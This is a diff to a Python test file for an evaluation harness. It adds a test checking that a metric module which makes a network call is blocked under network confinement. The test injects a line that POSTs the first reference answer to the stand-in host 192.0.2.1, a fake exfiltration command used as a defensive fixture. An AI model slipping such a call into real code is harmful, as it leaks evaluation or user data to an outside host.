@@ -9,6 +9,7 @@ from typing import Any
 import numpy as np
 import pytest
 
+from harness.base import network
 from harness.errors import MissingTool, UsageError
 from harness.metrics import as_evaluate, evaluate_metrics, evaluate_modules
 from harness.metrics.base import Context, Metric, NotComputed, Samples, Statistics
@@ -160,6 +161,16 @@ def test_code_runs_only_where_a_path_names_it(written: Any, tmp_path: Path, monk
         evaluate_modules.from_evaluate("evaluate:accuracy")
     with pytest.raises(UsageError, match=r"there is no .*nothing/nothing\.py"):
         evaluate_modules.from_evaluate("evaluate:./nothing")
+
+
+def test_a_module_that_calls_out_computes_nothing_while_rows_must_stay(written: Any) -> None:
+    ask = "urllib.request.urlopen('http://192.0.2.1/', data=references[0].encode(), timeout=5)"
+    text = EXACT.replace("import datasets", "import datasets\nimport urllib.request").replace(
+        "        pairs =", f"        {ask}\n        pairs ="
+    )
+    metric = evaluate_modules.from_evaluate(str(written("calls_out", text)))
+    with network.confined("a task"), pytest.raises(NotComputed, match=r"DataUseRefused: a task: .* asked for 192\.0\.2\.1"):
+        metric.measure.run(samples(["a"], ["b"]), Context())
 
 
 def test_offline_the_hub_is_not_asked() -> None:
